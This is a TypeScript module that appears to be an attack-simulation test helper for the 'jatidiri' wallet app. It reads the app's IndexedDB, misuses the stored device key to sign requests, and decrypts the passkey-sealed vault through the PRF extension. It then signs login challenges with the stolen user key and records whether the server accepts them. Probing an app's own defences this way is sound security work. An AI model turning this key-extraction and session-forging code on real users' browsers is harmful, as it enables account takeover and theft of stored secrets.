import { createECDH, createPrivateKey, randomBytes, sign } from 'node:crypto';
import { type Caller, calls, makeCaller, Refused } from '@jatidiri/contracts';
import { makeDpop } from '@jatidiri/credentials';
import type { Page } from 'playwright-core';

export interface Loot {
  /** What lay under the passkey's seal, by name. */
  readonly opened: readonly string[];
  /** What the server said to a PIN that was evaluated, its challenge signed with what the passkey opened. */
  readonly saidPin: string;
  /** The same of a passkey's own challenge. */
  readonly saidPasskey: string;
}

/** A page of one's own, as the owner's finger opens it: takes U out of the passkey's seal, and says that a PIN was typed. */
export async function stealByPasskey(page: Page): Promise<Loot> {
  const secrets = await openPasskeySeal(page);
  const key = createPrivateKey({
    key: Buffer.from(secrets.user ?? '', 'base64url'),
    format: 'der',
    type: 'pkcs8',
  });
  const call = await callAsPhone(page);
  const say = async (challenge: string) => {
    const signed = sign('sha256', Buffer.from(`jatidiri-open:${challenge}`), { key, dsaEncoding: 'ieee-p1363' });
    const proof = { challenge, signature: signed.toString('base64url') };
    return call(calls.openSession, proof).then(
      () => 'opened',
      (error: unknown) => (error instanceof Refused ? error.code : String(error)),
    );
  };
  // Any point will do for a PIN that nobody knows.
  const ecdh = createECDH('prime256v1');
  ecdh.generateKeys();
  const pin = await call(calls.evaluatePin, { blinded: ecdh.getPublicKey('base64url', 'compressed') });
  const saidPin = await say(pin.challenge);
  const saidPasskey = await say((await call(calls.challengeUser)).challenge);
  return { opened: Object.keys(secrets).sort(), saidPin, saidPasskey };
}

/** A script can't take the device key out, but it can have it sign. */
async function callAsPhone(page: Page): Promise<Caller> {
  const { origin } = new URL(page.url());
  const { x = '', y = '' } = await page.evaluate(async () => {
    const opening = indexedDB.open('jatidiri-dompet');
    const db = await new Promise<IDBDatabase>((resolve) => {
      opening.onsuccess = () => resolve(opening.result);
    });
    const reading = db.transaction('open').objectStore('open').get('deviceKey');
    const pair = await new Promise<CryptoKeyPair>((resolve) => {
      reading.onsuccess = () => resolve(reading.result);
    });
    db.close();
    Object.assign(window, { stolenKey: pair.privateKey });
    return crypto.subtle.exportKey('jwk', pair.publicKey);
  });
  const signInPage = async (data: Uint8Array) => {
    const bytes = await page.evaluate(
      async (data) => {
        const { stolenKey } = window as unknown as { stolenKey: CryptoKey };
        const signed = await crypto.subtle.sign({ name: 'ECDSA', hash: 'SHA-256' }, stolenKey, Uint8Array.from(data));
        return [...new Uint8Array(signed)];
      },
      [...data],
    );
    return Uint8Array.from(bytes);
  };
  const proof = { publicKey: { kty: 'EC', crv: 'P-256', x, y }, jti: '' } as const;
  return makeCaller(origin, {
    fetch,
    sign: async (method, url) => {
      const [jti, issuedAt] = [randomBytes(12).toString('base64url'), Math.floor(Date.now() / 1000)];
      return { dpop: await makeDpop({ ...proof, method, url, jti, issuedAt }, { sign: signInPage }) };
    },
  });
}

/** What a passkey opens, as anybody's code gets it who has the owner's finger for a moment. */
function openPasskeySeal(page: Page): Promise<Record<string, string>> {
  return page.evaluate(async () => {
    const utf8 = (text: string) => new TextEncoder().encode(text);
    const opening = indexedDB.open('jatidiri-dompet');
    const db = await new Promise<IDBDatabase>((resolve) => {
      opening.onsuccess = () => resolve(opening.result);
    });
    const reading = db.transaction('open').objectStore('open').get('vault');
    type Kept = { id: string; salt: BufferSource; iv: BufferSource; data: BufferSource };
    const { passkeys } = await new Promise<{ passkeys: [Kept] }>((resolve) => {
      reading.onsuccess = () => resolve(reading.result);
    });
    db.close();
    const [{ id, salt, iv, data }] = passkeys;
    const raw = atob(id.replaceAll('-', '+').replaceAll('_', '/'));
    const used = (await navigator.credentials.get({
      publicKey: {
        challenge: crypto.getRandomValues(new Uint8Array(32)),
        allowCredentials: [{ type: 'public-key', id: Uint8Array.from(raw, (char) => char.charCodeAt(0)) }],
        userVerification: 'required',
        extensions: { prf: { eval: { first: utf8('jatidiri-passkey-1') } } },
      },
    })) as PublicKeyCredential;
    const output = used.getClientExtensionResults().prf?.results?.first as BufferSource;
    const material = await crypto.subtle.importKey('raw', output, 'HKDF', false, ['deriveKey']);
    const how = { name: 'HKDF', hash: 'SHA-256', salt, info: utf8('jatidiri-passkey-1') };
    const key = await crypto.subtle.deriveKey(how, material, { name: 'AES-GCM', length: 256 }, false, ['decrypt']);
    const plain = await crypto.subtle.decrypt({ name: 'AES-GCM', iv }, key, data);
    return JSON.parse(new TextDecoder().decode(plain));
  });
}
